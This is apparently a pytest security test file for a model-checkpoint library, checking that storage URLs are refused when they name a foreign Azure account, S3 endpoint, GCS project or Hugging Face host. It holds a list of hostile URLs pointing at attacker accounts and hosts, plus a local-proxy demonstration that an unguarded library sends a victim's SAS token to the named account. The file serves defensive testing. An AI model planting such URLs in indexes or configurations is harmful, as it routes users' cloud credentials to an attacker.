"""Where credentials may go (docs/security.md): a URL names a bucket, container or
repository, never the account, endpoint, host, port or options the user's credentials
are used with. One rule, ``storage.check_destination``, at every entry: an index entry
(JSON and Parquet), a source string, ``cz.fetch``, ``zoo.download``, load code, every
file system, the CLI and the widget.

The proof that matters is on the wire: a recording proxy on 127.0.0.1 (the Azure SDK
honours ``HTTPS_PROXY``) sees the ``CONNECT`` line of every connection, so it sees which
account a request would go to. Unguarded, adlfs sends the victim's SAS to the account a
URL names; through the product the URL is refused before any connection.
"""

from __future__ import annotations

import os
import socket
import subprocess
import sys
import threading
import time
import urllib.parse
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import ckptzoo_widgets as cz
from ckptzoo_widgets import storage
from ckptzoo_widgets.errors import FetchError, ZooError
from tests.indexes import good_index, write_index

HOSTILE = {
    "azure-account-host": "az://attackeracct.blob.core.windows.net/models/w.safetensors",
    "azure-dfs-host": "abfs://attackeracct.dfs.core.windows.net/models/w.safetensors",
    "azure-container-at-account": "abfss://models@attackeracct.dfs.core.windows.net/w.safetensors",
    "azure-sovereign-host": "az://attackeracct.blob.core.chinacloudapi.cn/models/w.safetensors",
    "azure-account-in-query": "az://models/w.safetensors?account_name=attackeracct",
    "azure-percent-dot": "az://attackeracct%2Eblob%2Ecore%2Ewindows%2Enet/models/w.safetensors",
    "s3-endpoint-port": "s3://attacker.example:9000/models/w.safetensors",
    "s3-access-point-arn": "s3://arn:aws:s3:us-east-1:123456789012:accesspoint/ap/w.safetensors",
    "s3-userinfo": "s3://AKIAIOSFODNN7EXAMPLE:hunter2hunter2@bucket/w.safetensors",
    "s3-version-query": "s3://bucket/w.safetensors?versionId=1",
    "s3-chained": "s3://bucket/w.safetensors::az://attackeracct.blob.core.windows.net/m/w",
    "gs-user-project": "gs://bucket/w.safetensors?userProject=attacker-project",
    "gs-generation": "gs://bucket/w.safetensors#1234",
    "gs-user": "gs://attacker-project@bucket/w.safetensors",
    "hf-endpoint-host": "hf://https:/attacker.example/org/repo/w.safetensors",
    "hf-userinfo": "hf://user@attacker.example/org/repo/w.safetensors",
}
REFUSED = "refused"


@pytest.fixture
def cache_env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("CKPTZOO_CACHE", str(tmp_path / "cache"))
    monkeypatch.setenv("CKPTZOO_QUIET", "1")
    monkeypatch.setenv("CKPTZOO_BACKOFF", "0.01")
    return tmp_path / "cache"


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_the_rule_refuses_each_form_with_one_line(name: str) -> None:
    url = HOSTILE[name]
    with pytest.raises(storage.CredentialRouteError) as info:
        storage.check_destination(url)
    message = str(info.value)
    assert "\n" not in message and REFUSED in message and "storage_options" in message
    assert "hunter2" not in message and "AKIAIOSFODNN7EXAMPLE" not in message
    assert isinstance(info.value, ZooError) and isinstance(info.value, ValueError)
    with pytest.raises(ZooError, match=REFUSED):  # every file system is made here
        storage.filesystem(url)


@pytest.mark.parametrize(
    "url",
    [
        "s3://team-zoo/alpha/model.safetensors",
        "s3://my.dotted.bucket/alpha/model.safetensors",
        "gs://team-zoo/alpha/model.safetensors",
        "az://models/alpha/model.safetensors",
        "abfs://models/alpha/model.safetensors",
        "hf://org/repo@main/model.safetensors",
        "hf://datasets/org/data/train.parquet",
        "s3://team-zoo",
    ],
)
def test_buckets_containers_and_repositories_pass(url: str) -> None:
    assert storage.check_destination(url) == url


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_an_index_naming_it_reports_the_entry_and_opens_the_rest(tmp_path: Path, name: str) -> None:
    doc = good_index(tmp_path)
    files = doc["models"][0]["checkpoints"][1]["files"]
    files[0].pop("path")
    files[0]["url"] = HOSTILE[name]
    zoo = cz.open_zoo(str(write_index(tmp_path, doc)))
    assert "team/alpha" not in set(zoo.search("")["id"])
    assert any(REFUSED in e or "query" in e for e in zoo.errors), zoo.errors
    assert all("hunter2" not in e for e in zoo.errors)


def _parquet_zoo(tmp_path: Path, url: str) -> Path:
    """A Parquet index whose entry names ``url`` (written past the validator, as a stranger could)."""
    from ckptzoo_widgets.index.parquet_write import write_parquet
    from ckptzoo_widgets.schema import parse_index

    index, problems = parse_index(good_index(tmp_path), str(tmp_path / "index.json"))
    assert problems == []
    model = index.models[0]
    file = model.checkpoints[1].files[0]
    object.__setattr__(file, "path", None)
    object.__setattr__(file, "url", url)
    out = tmp_path / "index.parquet"
    write_parquet(index.models, out)
    return out


def test_a_parquet_index_naming_an_account_is_refused_at_download_and_load_code(tmp_path, cache_env) -> None:
    zoo = cz.open_zoo(str(_parquet_zoo(tmp_path, HOSTILE["azure-account-host"])))
    for act in (lambda: zoo.download("team/alpha@step-100"), lambda: zoo.load_code("team/alpha@step-100")):
        with pytest.raises(ZooError) as info:
            act()
        assert REFUSED in str(info.value) or "url" in str(info.value), str(info.value)
    assert not (cache_env / "blobs").exists()


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_source_strings_fetch_and_browse_refuse_it(name: str, cache_env) -> None:
    url = HOSTILE[name]
    with pytest.raises(ZooError, match=REFUSED):
        cz.open_zoo(url)
    with pytest.raises(ZooError, match=REFUSED):
        cz.open_zoo(["builtin", url])  # accepted per source before anything opens
    with pytest.raises(FetchError, match=REFUSED):
        cz.fetch(url, sha256="0" * 64)
    browser = cz.browse(url)
    assert REFUSED in browser.error and "\n" not in browser.error and "hunter2" not in browser.error
    assert not (cache_env / "blobs").exists()


def test_load_code_refuses_a_location_built_past_the_index_rules(tmp_path) -> None:
    """A reader that builds entries itself (a base from a source string) still cannot make
    load code name an account: codegen asks the same rule."""
    from ckptzoo_widgets import codegen
    from ckptzoo_widgets.schema import parse_index

    index, _ = parse_index(good_index(tmp_path), "zoo/index.json")
    alpha = index.models[0].with_origin(
        "az://attackeracct.blob.core.windows.net/zoo/index.json", "az://attackeracct.blob.core.windows.net/zoo/"
    )
    with pytest.raises(ZooError, match=REFUSED):
        codegen.generate(alpha, alpha.checkpoints[1])
    good = index.models[0].with_origin("az://zoo/index.json", "az://zoo/")
    assert "az://zoo/files/tiny.safetensors" in codegen.generate(good, good.checkpoints[1])


def test_the_cli_refuses_it_with_one_line_and_exit_2(cache_env) -> None:
    url = HOSTILE["azure-account-host"]
    for args in (["search", "--zoo", url], ["download", "team/alpha@step-100", "--zoo", url]):
        done = subprocess.run(
            [sys.executable, "-m", "ckptzoo_widgets.cli", *args], capture_output=True, text=True, timeout=120
        )
        lines = done.stderr.strip().splitlines()
        assert done.returncode == 2 and len(lines) == 1 and REFUSED in lines[0], (args, done.stderr)


# ---- the property: nothing accepted gives a file system options from its URL -------------

_PROTOCOLS = ("s3", "s3a", "gs", "gcs", "az", "abfs", "abfss", "hf")
_PIECES = st.sampled_from(
    [
        "bucket",
        "team-zoo",
        "my.bucket",
        "acct.blob.core.windows.net",
        "acct.dfs.core.windows.net",
        "x.blob.core.windows.net.evil",
        "user@",
        "user:pw@",
        ":9000",
        "%2E",
        "@acct.dfs.core.windows.net",
        "arn:aws:s3:us-east-1:123456789012:accesspoint",
        "?versionId=1",
        "?account_name=evil",
        "#123",
        "::gs://x/",
        "/",
        ".",
        "-",
        "A",
    ]
)
_AUTHORITY = st.one_of(
    st.lists(_PIECES, min_size=1, max_size=5).map("".join),
    st.text(alphabet="abcXYZ019.-_:@%?#/[]$ ", min_size=1, max_size=30),
)


def _url_kwargs(url: str) -> list[dict]:
    """What fsspec would take from ``url`` as file-system options: the options of each link
    of its chain, from the backend fsspec picks for the protocol (s3fs, gcsfs, adlfs,
    huggingface_hub's HfFileSystem: their own ``_get_kwargs_from_urls``)."""
    import fsspec

    chain = fsspec.core._un_chain(url, {})
    found = [kw for _, _, kw in chain]
    found.append(fsspec.get_filesystem_class(storage.protocol(url))._get_kwargs_from_urls(url))
    if len(chain) != 1:
        found.append({"chained": len(chain)})
    return found


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(proto=st.sampled_from(_PROTOCOLS), authority=_AUTHORITY, path=st.sampled_from(["/k.bin", "/a/b", ""]))
def test_property_an_accepted_url_never_chooses_account_endpoint_project_or_host(proto, authority, path) -> None:
    url = f"{proto}://{authority}{path}"
    try:
        storage.check_destination(url)
    except storage.CredentialRouteError as e:
        assert "\n" not in str(e) and REFUSED in str(e) or "not an object-storage URL" in str(e)
        return
    assert all(kw == {} for kw in _url_kwargs(url)), (url, _url_kwargs(url))
    netloc = urllib.parse.urlsplit(url).netloc
    assert "@" not in netloc and ":" not in netloc and "%" not in netloc
    if storage.family(url) == "adlfs":
        assert "." not in netloc  # no <account>.blob / .dfs host of any cloud


# ---- the wire: which account a request goes to ---------------------------------------------


class ConnectRecorder:
    """An HTTP proxy on 127.0.0.1 that records each request line (``CONNECT host:443``) and
    refuses it: the Azure SDK's connections go here instead of the internet."""

    def __init__(self) -> None:
        self.lines: list[str] = []
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.url = f"http://127.0.0.1:{self.sock.getsockname()[1]}"
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            with conn:
                head = conn.recv(65536).split(b"\r\n", 1)[0]
                self.lines.append(head.decode("latin-1"))
                conn.sendall(b"HTTP/1.1 403 Forbidden\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")

    def hosts(self) -> set[str]:
        return {line.split()[1] for line in self.lines if line.startswith("CONNECT ")}

    def close(self) -> None:
        self.sock.close()


VICTIM_SAS = "sv=2024-08-04&ss=b&sp=r&sig=VictimSasSignature0123"


def _connections(code: str, tmp_path: Path) -> tuple[set[str], str]:
    """Run ``code`` in a child whose Azure credentials are the victim's (account name + SAS)
    and whose HTTPS goes through a recording proxy; stop it at its first connection (the
    Azure SDK would retry for minutes). The hosts it connected to, and its output."""
    pytest.importorskip("adlfs")
    proxy = ConnectRecorder()
    env = {k: v for k, v in os.environ.items() if not k.upper().startswith(("AZURE_", "NO_PROXY"))}
    env.update(
        HTTPS_PROXY=proxy.url,
        https_proxy=proxy.url,
        AZURE_STORAGE_ACCOUNT_NAME="victimacct",
        AZURE_STORAGE_SAS_TOKEN=VICTIM_SAS,
        CKPTZOO_CACHE=str(tmp_path / "cache"),
        CKPTZOO_QUIET="1",
    )
    child = subprocess.Popen(
        [sys.executable, "-c", code], env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True
    )
    deadline = time.monotonic() + 60
    while child.poll() is None and not proxy.lines and time.monotonic() < deadline:
        time.sleep(0.05)
    if child.poll() is None:
        child.kill()
    out, _ = child.communicate(timeout=30)
    proxy.close()
    return proxy.hosts(), out


def test_unguarded_adlfs_sends_the_sas_to_the_account_the_url_names(tmp_path: Path) -> None:
    """The hole is real in the library: without the rule, the request (the victim's SAS in
    its query) goes to attackeracct. This keeps the test below honest."""
    code = (
        "import fsspec\n"
        f"fs, path = fsspec.core.url_to_fs({HOSTILE['azure-account-host']!r})\n"
        "print('account', fs.account_name, flush=True)\n"
        "fs.info(path)\n"
    )
    hosts, out = _connections(code, tmp_path)
    assert "account attackeracct" in out
    assert hosts == {"attackeracct.blob.core.windows.net:443"}


def test_through_the_product_the_sas_goes_only_to_the_users_account(tmp_path: Path) -> None:
    url = HOSTILE["azure-account-host"]
    doc = good_index(tmp_path)
    doc["models"][0]["checkpoints"][1]["files"][0].pop("path")
    doc["models"][0]["checkpoints"][1]["files"][0]["url"] = url
    index = write_index(tmp_path, doc)
    refused = (
        (
            "import ckptzoo_widgets as cz\n"
            "for act in (lambda: cz.fetch(URL, sha256='0' * 64), lambda: cz.open_zoo(URL)):\n"
            "    try:\n        act()\n    except cz.ZooError as e:\n        print('refused' in str(e), flush=True)\n"
            "zoo = cz.open_zoo(INDEX)\n"
            "print('team/alpha' in set(zoo.search('')['id']), flush=True)\n"
        )
        .replace("URL", repr(url))
        .replace("INDEX", repr(str(index)))
    )
    hosts, out = _connections(refused, tmp_path)
    assert out.split() == ["True", "True", "False"], out
    assert hosts == set()  # no connection at all
    allowed = "import ckptzoo_widgets as cz\ncz.fetch('az://models/w.safetensors', sha256='0' * 64)\n"
    hosts, out = _connections(allowed, tmp_path)
    assert hosts == {"victimacct.blob.core.windows.net:443"}, out  # a container of the user's own account
